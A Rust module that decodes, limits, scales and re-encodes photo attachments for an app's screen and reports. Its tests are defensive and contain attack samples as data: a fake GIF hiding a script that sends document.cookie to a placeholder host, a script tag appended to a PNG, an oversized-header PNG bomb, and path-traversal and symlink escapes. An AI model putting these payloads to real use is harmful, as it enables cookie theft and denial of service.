//! Reading attached photos: PNG and JPEG, recognised by their first bytes,
//! with their size in pixels; decoding with EXIF orientation applied and
//! scaling, for the screen (the app's decode thread) and for the report.
//! Nothing goes into a report as it was stored: every picture is decoded
//! and encoded anew (so a file that only starts like an image, text after
//! a picture, a cut-off JPEG's raw bytes or metadata never reach a reader),
//! within limits of pixels and memory; a GIF is refused. Attachments are
//! read only from inside the session's folder ([`crate::store::resolve_attachment`]).
//! Reading only; a photo that cannot be used is reported, never fatal.

use std::io::Cursor;
use std::path::Path;

use image::metadata::Orientation;
use image::{DynamicImage, ImageDecoder as _, ImageFormat, ImageReader, Limits};

use crate::store::{Unresolved, resolve_attachment};

/// Photos larger than this are not read (a phone photo is a few MB).
const MAX_IMAGE_BYTES: u64 = 32 * 1024 * 1024;

/// The longest side of a photo in the report, in pixels (sharp on A4 at 190 dpi).
pub const REPORT_MAX_SIDE: u32 = 1600;
/// The JPEG quality of photos encoded for the report.
const REPORT_JPEG_QUALITY: u8 = 80;
/// A picture without transparency stays PNG up to this size (a drawing or
/// a screenshot stays sharp); a heavier one becomes a JPEG.
const REPORT_PNG_BYTES: usize = 512 * 1024;
/// The widest or tallest image that is decoded at all (a 100-megapixel
/// camera is 12 000 pixels wide).
const MAX_DECODE_SIDE: u32 = 20_000;
/// The most pixels an image may have to be decoded: 50 megapixels (a
/// 48-megapixel phone photo is fine, an 18 000 × 18 000 picture is not).
pub const MAX_DECODE_PIXELS: u64 = 50_000_000;
/// The most memory a decoded image may take: 256 MB.
pub const MAX_DECODE_BYTES: u64 = 256 * 1024 * 1024;

/// An image ready to be embedded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ImageData {
    /// The MIME type: "image/png" or "image/jpeg" ("image/gif" only as
    /// recognised, never as given to a report).
    pub mime: &'static str,
    /// The picture's bytes.
    pub bytes: Vec<u8>,
    /// Width in pixels.
    pub width: u32,
    /// Height in pixels.
    pub height: u32,
}

/// Why a photo is left out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ImageProblem {
    /// No session folder was given, so attachments cannot be found.
    NoFolder,
    /// The file is missing or cannot be read.
    Unreadable,
    /// The file is outside the session's folder: its path leaves it, or a
    /// symbolic link (a Windows junction) leads out of it.
    Outside,
    /// The file is not a PNG or JPEG image (a GIF, or anything else), or
    /// larger than 32 MB.
    Unsupported,
    /// The picture has more pixels, or needs more memory, than is decoded
    /// (50 megapixels, 256 MB).
    TooLarge,
    /// The picture is damaged and cannot be decoded.
    Damaged,
}

impl From<Unresolved> for ImageProblem {
    fn from(unresolved: Unresolved) -> Self {
        match unresolved {
            Unresolved::Outside => ImageProblem::Outside,
            Unresolved::Missing => ImageProblem::Unreadable,
        }
    }
}

impl From<DecodeError> for ImageProblem {
    fn from(error: DecodeError) -> Self {
        match error {
            DecodeError::Unsupported => ImageProblem::Unsupported,
            DecodeError::TooLarge => ImageProblem::TooLarge,
            DecodeError::Damaged(_) => ImageProblem::Damaged,
        }
    }
}

/// Why a photo could not be decoded.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum DecodeError {
    /// The bytes are not a PNG or JPEG image.
    #[error("not a PNG or JPEG image")]
    Unsupported,
    /// The image is larger than the decoder may handle.
    #[error("the image is too large to show")]
    TooLarge,
    /// The image is damaged or cut off; the decoder's words, in English.
    #[error("the image is damaged: {0}")]
    Damaged(String),
}

impl From<image::ImageError> for DecodeError {
    fn from(error: image::ImageError) -> Self {
        match error {
            image::ImageError::Limits(_) => DecodeError::TooLarge,
            image::ImageError::Unsupported(_) => DecodeError::Unsupported,
            other => DecodeError::Damaged(other.to_string()),
        }
    }
}

/// A decoder for a PNG or JPEG with limits (a corrupt or huge file gives
/// an error, never a panic or an out-of-memory abort): at most
/// [`MAX_DECODE_PIXELS`] pixels and [`MAX_DECODE_BYTES`] of pixel memory,
/// checked from the header before any pixel is decoded. Also gives the
/// picture's EXIF orientation.
fn decoder_with_orientation(
    bytes: &[u8],
) -> Result<(impl image::ImageDecoder + '_, Orientation), DecodeError> {
    let mut reader = ImageReader::new(Cursor::new(bytes))
        .with_guessed_format()
        .map_err(|e| DecodeError::Damaged(e.to_string()))?;
    if !matches!(reader.format(), Some(ImageFormat::Png | ImageFormat::Jpeg)) {
        return Err(DecodeError::Unsupported);
    }
    let mut limits = Limits::default();
    limits.max_image_width = Some(MAX_DECODE_SIDE);
    limits.max_image_height = Some(MAX_DECODE_SIDE);
    limits.max_alloc = Some(MAX_DECODE_BYTES);
    reader.limits(limits);
    let mut decoder = reader.into_decoder()?;
    let (width, height) = decoder.dimensions();
    if u64::from(width) * u64::from(height) > MAX_DECODE_PIXELS
        || decoder.total_bytes() > MAX_DECODE_BYTES
    {
        return Err(DecodeError::TooLarge);
    }
    // An unreadable EXIF block leaves the picture as it is stored.
    let orientation = decoder.orientation().unwrap_or(Orientation::NoTransforms);
    Ok((decoder, orientation))
}

/// Decodes a PNG or JPEG, scales it down (never up) so its longest side is
/// at most `max_side`, and turns it upright by its EXIF orientation (after
/// scaling, so a large photo is never held twice at full size). Also says
/// whether it was stored sideways.
fn decode_scaled(bytes: &[u8], max_side: u32) -> Result<(DynamicImage, bool), DecodeError> {
    let (decoder, orientation) = decoder_with_orientation(bytes)?;
    let image = DynamicImage::from_decoder(decoder)?;
    let max_side = max_side.max(1);
    let mut image = if image.width().max(image.height()) > max_side {
        image.thumbnail(max_side, max_side)
    } else {
        image
    };
    image.apply_orientation(orientation);
    Ok((image, orientation != Orientation::NoTransforms))
}

/// Decodes a PNG or JPEG at its full size, turned upright by its EXIF orientation.
pub fn decode_upright(bytes: &[u8]) -> Result<DynamicImage, DecodeError> {
    decode_scaled(bytes, u32::MAX).map(|(image, _)| image)
}

/// `image` scaled down (never up) so its longest side is at most
/// `max_side`, keeping its proportions, as 8-bit RGBA.
#[must_use]
pub fn scaled_rgba(image: &DynamicImage, max_side: u32) -> image::RgbaImage {
    let max_side = max_side.max(1);
    if image.width().max(image.height()) > max_side {
        image.thumbnail(max_side, max_side).to_rgba8()
    } else {
        image.to_rgba8()
    }
}

/// Reads the image file at `path` (at most 32 MB), decodes it upright and
/// scales it to at most `max_side`; for the app's decode thread, which has
/// checked that the file is inside the session's folder.
pub fn load_scaled(path: &Path, max_side: u32) -> Result<image::RgbaImage, DecodeError> {
    let meta = std::fs::metadata(path).map_err(|e| DecodeError::Damaged(e.to_string()))?;
    if meta.len() > MAX_IMAGE_BYTES {
        return Err(DecodeError::TooLarge);
    }
    let bytes = std::fs::read(path).map_err(|e| DecodeError::Damaged(e.to_string()))?;
    Ok(decode_scaled(&bytes, max_side)?.0.to_rgba8())
}

/// A picture made fit for a report: decoded (a GIF is refused), turned
/// upright, scaled to at most [`REPORT_MAX_SIDE`] and encoded anew: a PNG
/// stays a PNG when it has transparency or stays small, everything else
/// becomes a JPEG (quality 80). Nothing of the stored bytes is kept.
pub fn for_report(data: &ImageData) -> Result<ImageData, DecodeError> {
    if !matches!(data.mime, "image/png" | "image/jpeg") {
        return Err(DecodeError::Unsupported);
    }
    let (image, _) = decode_scaled(&data.bytes, REPORT_MAX_SIDE)?;
    let (width, height) = (image.width(), image.height());
    if data.mime == "image/png" {
        let alpha = image.color().has_alpha();
        let png = encode_png(&image)?;
        if alpha || png.len() <= REPORT_PNG_BYTES {
            return Ok(ImageData {
                mime: "image/png",
                bytes: png,
                width,
                height,
            });
        }
    }
    let mut bytes = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, REPORT_JPEG_QUALITY)
        .encode_image(&DynamicImage::ImageRgb8(image.to_rgb8()))
        .map_err(DecodeError::from)?;
    Ok(ImageData {
        mime: "image/jpeg",
        bytes,
        width,
        height,
    })
}

/// `image` as a PNG: 8 bits per channel, with transparency when it has it.
fn encode_png(image: &DynamicImage) -> Result<Vec<u8>, DecodeError> {
    let eight_bit = if image.color().has_alpha() {
        DynamicImage::ImageRgba8(image.to_rgba8())
    } else {
        DynamicImage::ImageRgb8(image.to_rgb8())
    };
    let mut bytes = Vec::new();
    eight_bit
        .write_to(&mut Cursor::new(&mut bytes), ImageFormat::Png)
        .map_err(DecodeError::from)?;
    Ok(bytes)
}

/// Loads the attachment at `relative` (with `/` separators) from `folder`,
/// made fit for a report ([`for_report`]).
pub fn load(folder: Option<&Path>, relative: &str) -> Result<ImageData, ImageProblem> {
    let data = load_as_stored(folder, relative)?;
    for_report(&data).map_err(ImageProblem::from)
}

/// Loads the attachment at `relative` from `folder` with its bytes as
/// stored: only from inside the folder ([`resolve_attachment`]), at most
/// 32 MB, and only what starts like a PNG, JPEG or GIF.
pub fn load_as_stored(folder: Option<&Path>, relative: &str) -> Result<ImageData, ImageProblem> {
    let folder = folder.ok_or(ImageProblem::NoFolder)?;
    let path = resolve_attachment(folder, relative)?;
    let meta = std::fs::metadata(&path).map_err(|_| ImageProblem::Unreadable)?;
    if meta.len() > MAX_IMAGE_BYTES {
        return Err(ImageProblem::Unsupported);
    }
    let bytes = std::fs::read(&path).map_err(|_| ImageProblem::Unreadable)?;
    recognise(bytes).ok_or(ImageProblem::Unsupported)
}

/// The content type of the image in `bytes` by its signature (PNG, JPEG
/// or GIF), if it is one we can embed.
#[must_use]
pub fn mime_of(bytes: &[u8]) -> Option<&'static str> {
    if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        Some("image/png")
    } else if bytes.starts_with(&[0xff, 0xd8, 0xff]) {
        Some("image/jpeg")
    } else if bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a") {
        Some("image/gif")
    } else {
        None
    }
}

/// The image in `bytes` with its type and size, if it is one we can embed.
#[must_use]
pub fn recognise(bytes: Vec<u8>) -> Option<ImageData> {
    let mime = mime_of(&bytes)?;
    let (width, height) = match mime {
        "image/png" => png_size(&bytes)?,
        "image/jpeg" => jpeg_size(&bytes)?,
        _ => gif_size(&bytes)?,
    };
    (width > 0 && height > 0).then_some(ImageData {
        mime,
        bytes,
        width,
        height,
    })
}

fn be16(bytes: &[u8], at: usize) -> Option<u32> {
    let b = bytes.get(at..at + 2)?;
    Some(u32::from(u16::from_be_bytes([b[0], b[1]])))
}

fn be32(bytes: &[u8], at: usize) -> Option<u32> {
    let b = bytes.get(at..at + 4)?;
    Some(u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
}

/// The size in the IHDR chunk, which always comes first.
fn png_size(bytes: &[u8]) -> Option<(u32, u32)> {
    (bytes.get(12..16)? == b"IHDR").then_some(())?;
    Some((be32(bytes, 16)?, be32(bytes, 20)?))
}

/// The size in the first start-of-frame segment.
fn jpeg_size(bytes: &[u8]) -> Option<(u32, u32)> {
    let mut at = 2;
    loop {
        // Segments start with 0xFF, possibly repeated as fill bytes.
        while *bytes.get(at)? == 0xff && *bytes.get(at + 1)? == 0xff {
            at += 1;
        }
        if *bytes.get(at)? != 0xff {
            return None;
        }
        let marker = *bytes.get(at + 1)?;
        match marker {
            // Markers without a length.
            0x01 | 0xd0..=0xd7 => at += 2,
            // Start of frame (not DHT, JPG or DAC): height, then width.
            0xc0..=0xcf if !matches!(marker, 0xc4 | 0xc8 | 0xcc) => {
                return Some((be16(bytes, at + 7)?, be16(bytes, at + 5)?));
            }
            // Start of scan or end of image before any frame: not usable.
            0xd9 | 0xda => return None,
            _ => at += 2 + usize::try_from(be16(bytes, at + 2)?).ok()?,
        }
    }
}

/// The logical screen size, little-endian.
fn gif_size(bytes: &[u8]) -> Option<(u32, u32)> {
    let b = bytes.get(6..10)?;
    Some((
        u32::from(u16::from_le_bytes([b[0], b[1]])),
        u32::from(u16::from_le_bytes([b[2], b[3]])),
    ))
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A valid 2×1 PNG (red, blue).
    pub(crate) const TINY_PNG: &[u8] = &[
        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44,
        0x52, 0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00, 0x00, 0x7b,
        0x40, 0xe8, 0xdd, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8,
        0xcf, 0x00, 0x04, 0xff, 0x01, 0x07, 0x00, 0x01, 0xff, 0xe2, 0x23, 0x9e, 0x59, 0x00, 0x00,
        0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
    ];

    #[test]
    fn png_jpeg_and_gif_are_recognised_with_their_size() {
        let png = recognise(TINY_PNG.to_vec()).expect("png");
        assert_eq!((png.mime, png.width, png.height), ("image/png", 2, 1));

        // SOI, an APP0 segment of 4 bytes, then SOF0 with height 300, width 400.
        let jpeg = [
            0xff, 0xd8, 0xff, 0xe0, 0x00, 0x04, 0x00, 0x00, 0xff, 0xc0, 0x00, 0x11, 0x08, 0x01,
            0x2c, 0x01, 0x90,
        ];
        let jpeg = recognise(jpeg.to_vec()).expect("jpeg");
        assert_eq!(
            (jpeg.mime, jpeg.width, jpeg.height),
            ("image/jpeg", 400, 300)
        );

        let gif = recognise(b"GIF89a\x20\x00\x10\x00rest".to_vec()).expect("gif");
        assert_eq!((gif.width, gif.height), (32, 16));
    }

    #[test]
    fn other_and_broken_files_are_not_images() {
        assert_eq!(recognise(b"<svg></svg>".to_vec()), None);
        assert_eq!(recognise(TINY_PNG[..14].to_vec()), None);
        assert_eq!(recognise(vec![0xff, 0xd8, 0xff, 0xe0, 0xff, 0xff]), None);
        assert_eq!(recognise(vec![0xff, 0xd8, 0xff]), None);
    }

    #[test]
    fn missing_folder_or_file_is_a_problem_not_a_panic() {
        assert_eq!(load(None, "x.png"), Err(ImageProblem::NoFolder));
        let dir = tempfile::tempdir().expect("temp dir");
        assert_eq!(
            load(Some(dir.path()), "weg.png"),
            Err(ImageProblem::Unreadable)
        );
        std::fs::write(dir.path().join("tekst.png"), "geen plaatje").expect("write");
        assert_eq!(
            load(Some(dir.path()), "tekst.png"),
            Err(ImageProblem::Unsupported)
        );
        std::fs::write(dir.path().join("ok.png"), TINY_PNG).expect("write");
        assert!(load(Some(dir.path()), "ok.png").is_ok());
    }

    /// A JPEG of `width`×`height`: the left half red, the right half blue.
    pub(crate) fn two_colour_jpeg(width: u32, height: u32) -> Vec<u8> {
        let image = image::RgbImage::from_fn(width, height, |x, _| {
            if x < width / 2 {
                image::Rgb([220, 20, 20])
            } else {
                image::Rgb([20, 20, 220])
            }
        });
        let mut bytes = Vec::new();
        image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, 90)
            .encode_image(&image)
            .expect("encode");
        bytes
    }

    /// `jpeg` with an APP1 Exif segment right after SOI that holds only the
    /// orientation tag (0x0112) with `orientation`, big-endian TIFF.
    pub(crate) fn with_exif_orientation(jpeg: &[u8], orientation: u8) -> Vec<u8> {
        let mut app1 = vec![0xff, 0xe1, 0x00, 0x22];
        app1.extend_from_slice(b"Exif\0\0");
        app1.extend_from_slice(b"MM\0\x2a\0\0\0\x08");
        app1.extend_from_slice(&[0x00, 0x01]);
        app1.extend_from_slice(&[0x01, 0x12, 0x00, 0x03, 0x00, 0x00, 0x00, 0x01]);
        app1.extend_from_slice(&[0x00, orientation, 0x00, 0x00]);
        app1.extend_from_slice(&[0x00, 0x00, 0x00, 0x00]);
        assert_eq!(app1.len(), 2 + 0x22);
        let mut out = jpeg[..2].to_vec();
        out.extend_from_slice(&app1);
        out.extend_from_slice(&jpeg[2..]);
        out
    }

    fn is_red(p: image::Rgba<u8>) -> bool {
        p[0] > 150 && p[2] < 100
    }

    fn is_blue(p: image::Rgba<u8>) -> bool {
        p[2] > 150 && p[0] < 100
    }

    #[test]
    fn exif_orientation_six_turns_a_sideways_photo_upright() {
        let sideways = with_exif_orientation(&two_colour_jpeg(64, 32), 6);
        let upright = decode_upright(&sideways).expect("decodes").to_rgba8();
        // Turned a quarter clockwise: 32 wide, 64 high, the left half on top.
        assert_eq!(upright.dimensions(), (32, 64));
        assert!(is_red(*upright.get_pixel(16, 10)));
        assert!(is_blue(*upright.get_pixel(16, 54)));

        // Without the tag (or with orientation 1) nothing turns.
        let plain =
            decode_upright(&with_exif_orientation(&two_colour_jpeg(64, 32), 1)).expect("decodes");
        assert_eq!((plain.width(), plain.height()), (64, 32));
    }

    #[test]
    fn the_report_gets_sideways_and_large_photos_upright_and_scaled() {
        let sideways = recognise(with_exif_orientation(&two_colour_jpeg(64, 32), 6)).expect("jpeg");
        let fixed = for_report(&sideways).expect("re-encoded");
        assert_eq!(
            (fixed.mime, fixed.width, fixed.height),
            ("image/jpeg", 32, 64)
        );
        assert_eq!(jpeg_size(&fixed.bytes), Some((32, 64)));

        let large = recognise(two_colour_jpeg(3200, 1800)).expect("jpeg");
        let scaled = for_report(&large).expect("scaled");
        assert_eq!((scaled.width, scaled.height), (1600, 900));
        assert_eq!(jpeg_size(&scaled.bytes), Some((1600, 900)));
    }

    #[test]
    fn every_picture_is_encoded_anew_and_nothing_after_it_survives() {
        // A small PNG with text after its end: a PNG again, without the text.
        let mut png = TINY_PNG.to_vec();
        png.extend_from_slice(b"<script>alert(1)</script> geheim wachtwoord");
        let png = recognise(png).expect("png");
        let fresh = for_report(&png).expect("re-encoded");
        assert_eq!((fresh.mime, fresh.width, fresh.height), ("image/png", 2, 1));
        assert_ne!(fresh.bytes, png.bytes);
        assert!(!contains(&fresh.bytes, b"geheim"));
        assert!(decode_upright(&fresh.bytes).is_ok());

        let mut jpeg = two_colour_jpeg(40, 20);
        jpeg.extend_from_slice(b"geheim wachtwoord");
        let fresh = for_report(&recognise(jpeg).expect("jpeg")).expect("re-encoded");
        assert_eq!(fresh.mime, "image/jpeg");
        assert!(!contains(&fresh.bytes, b"geheim"));
    }

    /// Whether `needle` occurs in `haystack`.
    pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
        haystack.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn a_gif_that_hides_a_script_is_refused() {
        let fake = b"GIF89a\x20\x00\x10\x00<script>fetch('https://x/'+document.cookie)</script>";
        let data = recognise(fake.to_vec()).expect("looks like a GIF");
        assert_eq!(data.mime, "image/gif");
        assert_eq!(for_report(&data), Err(DecodeError::Unsupported));
    }

    #[test]
    fn a_truncated_jpeg_is_never_embedded_as_it_was() {
        let jpeg = two_colour_jpeg(64, 32);
        let cut = jpeg[..jpeg.len() * 2 / 3].to_vec();
        match for_report(&recognise(cut.clone()).expect("jpeg header")) {
            // The decoder fills in what is missing: a whole, new JPEG.
            Ok(fresh) => {
                assert_ne!(fresh.bytes, cut);
                assert!(fresh.bytes.ends_with(&[0xff, 0xd9]), "a complete JPEG");
                assert!(decode_upright(&fresh.bytes).is_ok());
            }
            Err(error) => assert!(matches!(error, DecodeError::Damaged(_)), "{error:?}"),
        }
    }

    /// The CRC-32 of PNG chunks (ISO 3309), bit by bit.
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xffff_ffff_u32;
        for &byte in bytes {
            crc ^= u32::from(byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xedb8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    /// [`TINY_PNG`] with its header claiming `width` × `height` pixels (and
    /// a correct checksum, so only the size can be refused).
    pub(crate) fn png_claiming(width: u32, height: u32) -> Vec<u8> {
        let mut png = TINY_PNG.to_vec();
        png[16..20].copy_from_slice(&width.to_be_bytes());
        png[20..24].copy_from_slice(&height.to_be_bytes());
        let crc = crc32(&png[12..29]);
        png[29..33].copy_from_slice(&crc.to_be_bytes());
        png
    }

    #[test]
    fn an_18000_square_png_is_refused_before_decoding() {
        // The header says 18 000 × 18 000 (324 megapixels, 1.3 GB as RGBA).
        assert_eq!(crc32(&TINY_PNG[12..29]).to_be_bytes(), TINY_PNG[29..33]);
        let huge = png_claiming(18_000, 18_000);
        let started = std::time::Instant::now();
        assert_eq!(decode_upright(&huge).err(), Some(DecodeError::TooLarge));
        let data = recognise(huge).expect("png header");
        assert_eq!(for_report(&data), Err(DecodeError::TooLarge));
        assert!(started.elapsed() < std::time::Duration::from_secs(5));
        // 7072 × 7072 is 50 megapixels and a little: too many as well.
        let over = png_claiming(7072, 7072);
        assert_eq!(decode_upright(&over).err(), Some(DecodeError::TooLarge));
    }

    #[test]
    fn a_symlink_out_of_the_folder_is_outside() {
        let dir = tempfile::tempdir().expect("temp dir");
        let folder = dir.path().join("sessie");
        std::fs::create_dir_all(&folder).expect("folder");
        std::fs::write(dir.path().join("privé.png"), TINY_PNG).expect("write");
        #[cfg(unix)]
        {
            std::os::unix::fs::symlink(dir.path().join("privé.png"), folder.join("bord.png"))
                .expect("link");
            assert_eq!(load(Some(&folder), "bord.png"), Err(ImageProblem::Outside));
        }
        assert_eq!(
            load(Some(&folder), "../privé.png"),
            Err(ImageProblem::Outside)
        );
    }

    #[test]
    fn corrupt_and_huge_images_are_errors_not_panics() {
        let jpeg = two_colour_jpeg(64, 32);
        assert!(decode_upright(&jpeg[..jpeg.len() / 2]).is_err());
        assert!(matches!(
            decode_upright(b"<svg/>"),
            Err(DecodeError::Unsupported)
        ));
        // A PNG header claiming 100 000 × 100 000 pixels.
        let mut huge = TINY_PNG.to_vec();
        huge[16..20].copy_from_slice(&100_000u32.to_be_bytes());
        huge[20..24].copy_from_slice(&100_000u32.to_be_bytes());
        assert!(decode_upright(&huge).is_err());
    }
}
